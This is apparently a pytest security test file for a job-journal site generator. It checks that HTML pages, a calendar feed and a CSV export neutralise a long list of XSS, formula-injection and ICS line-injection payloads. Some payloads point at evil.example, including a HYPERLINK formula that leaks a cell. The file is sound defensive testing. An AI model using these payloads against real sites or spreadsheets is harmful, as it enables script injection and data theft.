"""HTML, feed and CSV safety: XSS payloads in every text field, the notes, the title and the
file names. Every page parsed with html5lib (as a browser parses it) has no script but the
theme's, no `on*` attribute, no script-capable URL and a strict CSP; the feed keeps each
payload as inert text; the CSV neutralises cells a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import icalendar
import pytest
import yaml
from hardening_helpers import check_page, parse, scheme_of, theme_scripts

from jobjournal.check.checker import Report, run_checks
from jobjournal.core.dates import noon
from jobjournal.load.loader import load_journal
from jobjournal.render.site import render_site

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "` onload=alert(1) `",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<div onclick=alert(1)>block html</div>",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "\u202e<script>alert(1)</script>",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "Company\r\nATTACH:javascript:alert(1)\r\nX-ALT-DESC;FMTTYPE=text/html:<script>alert(1)</script>",
    "a,b;c\\d\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected",
]
# File names (slugs) become paths in links between pages.
HOSTILE_NAMES = ["javascript:alert(1)", "\"><img src=x onerror=alert(1)>", "o'brien & \"co\"",
                 "what?#x", "<svg onload=alert(1)>"]
TITLE = "</title><script>alert('title')</script>"
def application(payload: str, n: int) -> dict[str, object]:
    p = payload
    return {
        "company": p, "role": p, "applied": "2026-11-01", "location": p, "salary": p,
        "source": p, "link": p if n % 2 else "https://jobs.example/1", "tags": [p, "plain"],
        "recruiter": {"name": f"{p} R{n}", "agency": p, "title": p, "email": p, "phone": p,
                      "linkedin": p},
        "contacts": [{"name": f"{p} C{n}", "title": p, "email": p, "phone": p}],
        "interviews": [
            {"at": "2026-11-18 14:00", "stage": p, "format": "video", "where": p, "notes": p,
             "with": [{"name": f"{p} I{n}", "title": p, "email": "i@x.example"}, f"{p} J{n}"],
             "hear_back_by": "2026-11-20"},
            {"at": "2026-11-30 10:00", "stage": p, "where": p, "with": [f"{p} K{n}"]},
        ],
        "references": [{"name": f"{p} Ref{n}", "relation": p, "contacted": "2026-11-20"}],
        "log": [{"on": "2026-11-18 15:00", "did": "thank-you", "to": f"{p} I{n}", "note": p},
                {"on": "2026-11-19", "did": "note", "note": p},
                {"on": "2026-11-19", "did": "chased", "to": p}],
        "followups": [{"due": "2026-11-20", "what": p}, {"due": "2026-12-01", "what": p}],
        "ignore": {"JJ112": p},
    }


def write_hostile_journal(root: Path, plain: bool = False) -> dict[str, str]:
    """The hostile journal (or, with `plain`, the same shape with harmless words); returns
    file -> payload."""
    root.mkdir()
    title = "Plain title" if plain else TITLE
    (root / "jobjournal.toml").write_text(
        f"title = {json.dumps(title)}\ntimezone = \"Europe/London\"\n"
        f"base_url = \"https://me.example/jobs\"\n[feed]\nname = {json.dumps(title)}\n",
        encoding="utf-8")
    written = {}
    names = [f"p{n:02d}" for n in range(len(PAYLOADS))] + HOSTILE_NAMES
    payloads = PAYLOADS + PAYLOADS[: len(HOSTILE_NAMES)]
    for n, (name, payload) in enumerate(zip(names, payloads, strict=True)):
        if plain:
            payload = f"Plain words {n}"
        front = yaml.safe_dump(application(payload, n), allow_unicode=True, sort_keys=False)
        notes = (f"## Notes\n\n{payload}\n\nMore: {payload}\n\n"
                 f"| a | b |\n|:-|-:|\n| {payload} | x |\n")
        (root / f"{name}.md").write_text(f"---\n{front}---\n{notes}", encoding="utf-8")
        written[f"{name}.md"] = payload
    return written


def report_of(root: Path) -> Report:
    journal = load_journal(root, persistent=False)
    return run_checks(journal, noon(date(2026, 11, 25), journal.config.zone))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Report, dict[str, str], dict[str, bytes]]:  # type: ignore[no-untyped-def]
    root = tmp_path_factory.mktemp("hostile") / "journal"
    payloads = write_hostile_journal(root)
    report = report_of(root)
    return report, payloads, render_site(report)


@pytest.fixture(scope="module")
def plain(tmp_path_factory) -> dict[str, bytes]:  # type: ignore[no-untyped-def]
    root = tmp_path_factory.mktemp("plain") / "journal"
    write_hostile_journal(root, plain=True)
    return render_site(report_of(root))


@pytest.mark.parametrize("live_reload", [False, True])
def test_no_page_runs_anything_the_theme_did_not_bring(hostile, live_reload):
    report, _payloads, files = hostile
    if live_reload:  # what `serve` sends, with its live-reload script
        files = render_site(report, live_reload=True)
    allowed = theme_scripts(files)
    assert allowed  # the theme's own scripts exist, so the check below means something
    pages = [path for path in files if path.endswith(".html")]
    assert len(pages) == len(report.journal.applications) + 3
    if live_reload:  # the same templates: the shared pages and a few applications suffice
        pages = pages[:8] + ["index.html", "people.html", "advice.html"]
    for path in pages:
        check_page(path, files[path], allowed)


def test_every_payload_is_shown_as_text_on_its_page(hostile):
    report, payloads, files = hostile
    allowed = theme_scripts(files)
    for application in report.journal.applications:
        text = check_page(f"applications/{application.slug}.html",
                          files[f"applications/{application.slug}.html"], allowed)
        shown = " ".join(payloads[application.file].split())
        assert shown in text, application.file  # escaped, not dropped
    index = check_page("index.html", files["index.html"], allowed)
    assert TITLE in index


def test_links_between_pages_stay_inside_the_site(hostile):
    """A file named `javascript:alert(1).md` must not become `href="javascript:..."`."""
    _report, _payloads, files = hostile
    for path, raw in files.items():
        if not path.endswith(".html"):
            continue
        for link in parse(raw).iter("a"):
            href = link.get("href") or ""
            scheme = scheme_of(href)
            assert scheme in ("", "http", "https", "mailto", "tel", "webcal"), (path, href)


def folded(text: str) -> str:
    return " ".join(text.split())


def unfolded_lines(feed: bytes) -> list[str]:
    return feed.decode("utf-8").replace("\r\n ", "").replace("\r\n\t", "").split("\r\n")


def test_feed_keeps_payloads_as_inert_text(hostile, plain):
    report, _payloads, files = hostile
    feed = files["followups.ics"]
    calendar = icalendar.Calendar.from_ical(feed)
    events = {str(event["UID"]): event for event in calendar.walk("VEVENT")}
    for followup in report.followups:
        event = events.pop(f"{followup.id}@jobjournal")
        # The same words, unescaped (a calendar has one kind of line break: CR LF becomes LF).
        title = folded(str(event["SUMMARY"]))
        assert title in (folded(followup.title), folded(f"Overdue: {followup.title}"))
        assert folded(followup.title) in folded(str(event["DESCRIPTION"]))
        assert scheme_of(str(event.get("URL", "https://x"))) == "https"
    assert all(uid.startswith("interview-") for uid in events)  # nothing injected
    # No property the same journal with harmless words does not have: a payload's line
    # breaks cannot add ATTACH, X-ALT-DESC or a second event.
    names = {re.split("[;:]", line, maxsplit=1)[0] for line in unfolded_lines(feed) if line}
    plain_names = {re.split("[;:]", line, maxsplit=1)[0]
                   for line in unfolded_lines(plain["followups.ics"]) if line}
    assert names <= plain_names, names - plain_names
    assert unfolded_lines(feed).count("BEGIN:VEVENT") == len(calendar.walk("VEVENT"))


def test_csv_cells_are_never_formulas_and_keep_their_text(hostile):
    report, _payloads, files = hostile
    text = files["applications.csv"].decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(report.journal.applications)
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    companies = sorted(row[header.index("company")] for row in body)
    expected = sorted(("'" + c if c.startswith(("=", "+", "-", "@", "\t", "\r")) else c)
                      for c in (a.company or "" for a in report.journal.applications))
    assert companies == expected  # neutralised by one apostrophe, nothing else changed


SAFE_PAGE = ("<!doctype html><html><head><meta http-equiv=\"Content-Security-Policy\" "
             "content=\"default-src 'none'; script-src 'self'\"><script src=\"static/site.js\">"
             "</script></head><body>{}</body></html>")


@pytest.mark.parametrize("body, head", [
    ("<script>alert(1)</script>", True),
    ("<script src=https://evil.example/x.js></script>", True),
    ("<img src=x onerror=alert(1)>", True),
    ("<svg><circle onload=alert(1)></circle></svg>", True),
    ("<a href='&#106;avascript:alert(1)'>x</a>", True),
    ("<a href=' java\tscript:alert(1)'>x</a>", True),
    ("<svg><a xlink:href='javascript:alert(1)'>x</a></svg>", True),
    ("<iframe src=https://x.example></iframe>", True),
    ("<base href=https://evil.example/>", True),
    ("<p style='color:red'>x</p>", True),
    ("<p>fine</p>", False),  # no CSP at all
])
def test_the_page_check_catches_what_it_looks_for(body, head):
    raw = SAFE_PAGE.format(body) if head else (
        "<!doctype html><html><head></head><body>" + body + "</body></html>")
    assert check_page("index.html", SAFE_PAGE.format("<p>fine</p>").encode(), {"static/site.js"})
    with pytest.raises(AssertionError):
        check_page("index.html", raw.encode(), {"static/site.js"})
